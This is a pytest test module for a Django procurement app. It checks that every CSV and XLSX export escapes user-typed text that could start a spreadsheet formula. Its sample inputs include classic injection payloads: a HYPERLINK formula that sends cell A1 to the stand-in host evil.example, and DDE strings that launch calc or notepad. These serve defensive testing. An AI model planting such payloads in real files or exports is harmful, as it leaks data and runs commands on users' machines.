"""Spreadsheet formula injection (CSV/DDE injection): text typed by someone — a case subject,
a supplier name, a year-end comment — must reach every CSV and XLSX export as text, never as
a formula. Each export is fed text starting with =, +, -, @, tab or carriage return: the CSV
cell starts with an apostrophe, and the XLSX cell is a string (never data_type "f") starting
with one. Amounts and dates keep their type, a negative amount stays a number."""

import csv
import io
from datetime import datetime
from decimal import Decimal

import pytest
from django.urls import reverse
from django.utils import timezone
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from openpyxl import load_workbook

from cases.models import Case, Tiers
from cases.workflow import State
from documents.spreadsheets import french_csv, safe_text, xlsx_workbook

pytestmark = pytest.mark.django_db

TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
# What people type after the trigger: anything a database column holds (no NUL, no lone
# surrogate), including the classic payloads.
TAIL = st.one_of(
    st.text(alphabet=st.characters(blacklist_categories=("Cs",), blacklist_characters="\x00"),
            max_size=40),
    st.sampled_from(['HYPERLINK("https://evil.example/?x="&A1,"Cliquez")', "1+1",
                     "cmd|' /C calc'!A0", "SUM(1,2)", "2+3+cmd|' /C notepad'!'B1'"]),
)
FORMULA_TEXT = st.builds(lambda trigger, tail: trigger + tail, st.sampled_from(TRIGGERS), TAIL)
HTTP = settings(max_examples=12, deadline=None,
                suppress_health_check=[HealthCheck.function_scoped_fixture,
                                       HealthCheck.too_slow])


def csv_rows(body: str) -> list[list[str]]:
    assert body.startswith("\ufeff")
    return list(csv.reader(io.StringIO(body[1:], newline=""), delimiter=";"))


def xlsx_sheet(content: bytes):
    return load_workbook(io.BytesIO(content)).active


def assert_csv_safe(rows: list[list[str]], column: int, text: str) -> None:
    """Every data row's `column` holds `text` behind its apostrophe, and no cell of the
    file starts a formula."""
    assert len(rows) > 1
    for row in rows[1:]:
        assert row[column] == "'" + text
    for row in rows:
        for cell in row:
            assert not cell or cell[0] not in "=+@\t\r" or cell.startswith("'"), cell


def assert_xlsx_safe(sheet, column: int, text: str) -> None:
    """No cell is a formula; every data row's `column` is a string behind an apostrophe."""
    rows = list(sheet.iter_rows())
    assert len(rows) > 1
    for row in rows:
        for cell in row:
            assert cell.data_type != "f", (cell.coordinate, cell.value)
    for row in rows[1:]:
        cell = row[column]
        assert cell.data_type == "s" and cell.value.startswith("'"), cell.value
        # What was typed is all there, less what XML cannot hold at all.
        assert cell.value[1:] == "".join(c for c in text if c in "\t\n\r" or c >= " ")


# --- the shared writer ---------------------------------------------------------------------


@settings(max_examples=150, deadline=None)
@given(text=FORMULA_TEXT)
def test_text_that_would_start_a_formula_gets_an_apostrophe(text):
    assert safe_text(text) == "'" + text
    assert_csv_safe(csv_rows("".join(french_csv(["Objet"], [[text]]))), 0, text)
    buffer = io.BytesIO()
    xlsx_workbook("Feuille", ["Objet"], [[text]]).save(buffer)
    assert_xlsx_safe(xlsx_sheet(buffer.getvalue()), 0, text)


@settings(max_examples=150, deadline=None)
@given(text=st.text(alphabet=st.characters(blacklist_categories=("Cs",)), max_size=40))
def test_no_text_ever_becomes_a_formula_or_loses_what_was_typed(text):
    buffer = io.BytesIO()
    # A row of empty cells is not kept in the file: the number keeps the row there.
    xlsx_workbook("Feuille", ["Objet", "N"], [[text, 1]]).save(buffer)
    cell = list(xlsx_sheet(buffer.getvalue()).iter_rows())[1][0]
    assert cell.data_type in ("s", "n")  # "n": an empty cell
    shown = cell.value or ""
    kept = "".join(c for c in text if c in "\t\n\r" or c >= " ")
    assert shown == kept or shown == "'" + kept
    assert not starts_formula(shown)
    [row] = csv_rows("".join(french_csv(["Objet"], [[text]])))[1:]
    assert row[0] in (text, "'" + text)
    assert not starts_formula(row[0])


def starts_formula(cell: str) -> bool:
    """What this test calls a formula: a trigger first, once blanks and control characters
    (which a spreadsheet or the XML writer may drop) are skipped."""
    skipped = "".join(map(chr, range(0x20))) + " \u00a0\u3000"
    return cell[:1] in TRIGGERS or cell.lstrip(skipped)[:1] in set("=+-@＝＋－＠")


@settings(max_examples=100, deadline=None)
@given(amount=st.decimals(min_value=Decimal("-1e9"), max_value=Decimal("1e9"), places=2))
def test_numbers_stay_numbers_even_negative(amount):
    moment = timezone.make_aware(datetime(2026, 3, 2, 9, 30))
    [row] = csv_rows("".join(french_csv(["Montant", "Date"], [[amount, moment]])))[1:]
    assert row == [f"{amount:.2f}".replace(".", ","), "02/03/2026 09:30"]
    buffer = io.BytesIO()
    xlsx_workbook("Feuille", ["Montant", "Date"], [[amount, moment]]).save(buffer)
    money, date_cell = list(xlsx_sheet(buffer.getvalue()).iter_rows())[1]
    assert money.data_type == "n" and Decimal(str(money.value)) == amount
    assert date_cell.is_date and date_cell.value == datetime(2026, 3, 2, 9, 30)


# --- each export ---------------------------------------------------------------------------


@pytest.fixture
def hostile_case(make_purchase_request, sp_agent, csp_agent):
    return make_purchase_request(sp_agent, amount="1234.50", state=State.IN_PROGRESS,
                                 agent=csp_agent)


def _type_in(case, text):
    """The subject and the supplier's name, as someone could have typed them."""
    Case.objects.filter(pk=case.pk).update(subject=text[:200])
    Tiers.objects.filter(pk=case.purchase_request.tiers_id).update(name=text[:200])
    return text[:200]


SUBJECT, SUPPLIER = 2, 5  # columns of the case exports


@HTTP
@given(text=FORMULA_TEXT)
def test_the_queue_and_my_requests_exports_never_carry_a_formula(client, hostile_case, sp_agent,
                                                                csp_agent, text):
    text = _type_in(hostile_case, text)
    for user, url in ((csp_agent, "cases:queue_export"), (sp_agent, "cases:my_requests_export")):
        client.force_login(user)
        query = {"state": "all"} if url == "cases:queue_export" else {}
        response = client.get(reverse(url, args=["csv"]), query)
        rows = csv_rows(b"".join(response.streaming_content).decode("utf-8"))
        for column in (SUBJECT, SUPPLIER):
            assert_csv_safe(rows, column, text)
        response = client.get(reverse(url, args=["xlsx"]), query)
        sheet = xlsx_sheet(b"".join(response.streaming_content))
        for column in (SUBJECT, SUPPLIER):
            assert_xlsx_safe(sheet, column, text)


@HTTP
@given(text=FORMULA_TEXT, fmt=st.sampled_from(["csv", "xlsx"]))
def test_large_exports_made_by_the_task_never_carry_a_formula(client, settings, hostile_case,
                                                             csp_agent, text, fmt):
    from cases.export_services import export_job_run
    from cases.models import ExportJob

    settings.EXPORT_SYNC_MAX_ROWS = 0
    text = _type_in(hostile_case, text)
    client.force_login(csp_agent)
    client.get(reverse("cases:queue_export", args=[fmt]), {"state": "all"})
    job = ExportJob.objects.latest("pk")
    export_job_run(job.pk)
    content = b"".join(client.get(reverse("cases:export_job_download", args=[job.pk]))
                       .streaming_content)
    if fmt == "csv":
        assert_csv_safe(csv_rows(content.decode("utf-8")), SUBJECT, text)
    else:
        assert_xlsx_safe(xlsx_sheet(content), SUBJECT, text)


@HTTP
@given(text=FORMULA_TEXT)
def test_the_year_end_carry_over_export_never_carries_a_formula(
        client, make_purchase_request, sp_agent, ordonnateur, csp_agent, text):
    from kinds.service_done.models import YearEndReview

    if not Case.objects.filter(state=State.COMPLETED).exists():
        make_purchase_request(sp_agent, state=State.COMPLETED, agent=csp_agent,
                              ordonnateur=ordonnateur)
    order = Case.objects.get(state=State.COMPLETED)
    text = _type_in(order, text)
    YearEndReview.objects.update_or_create(
        purchase_request=order.purchase_request, year=timezone.localdate().year,
        defaults={"decision": "carry_over", "comment": text, "decided_by": sp_agent,
                  "decided_at": timezone.now()})
    client.force_login(csp_agent)
    response = client.get(reverse("service_done:carry_over_export"))
    rows = csv_rows(b"".join(response.streaming_content).decode("utf-8"))
    for column in (3, 4, 8):  # Objet, Fournisseur, Commentaire
        assert_csv_safe(rows, column, text)


@HTTP
@given(text=FORMULA_TEXT)
def test_the_missing_service_done_list_never_carries_a_formula(
        make_purchase_request, sp, sp_agent, ordonnateur, csp_agent, text):
    from reminders.services import missing_service_done, missing_service_done_xlsx

    if not Case.objects.filter(state=State.COMPLETED).exists():
        make_purchase_request(sp_agent, state=State.COMPLETED, agent=csp_agent,
                              ordonnateur=ordonnateur)
    text = _type_in(Case.objects.get(state=State.COMPLETED), text)
    sheet = xlsx_sheet(missing_service_done_xlsx(list(missing_service_done(sp))))
    for column in (2, 3):  # Objet, Fournisseur
        assert_xlsx_safe(sheet, column, text)
    [row] = list(sheet.iter_rows())[1:]
    assert row[4].data_type == "n" and row[7].is_date  # the amount and the date stay typed
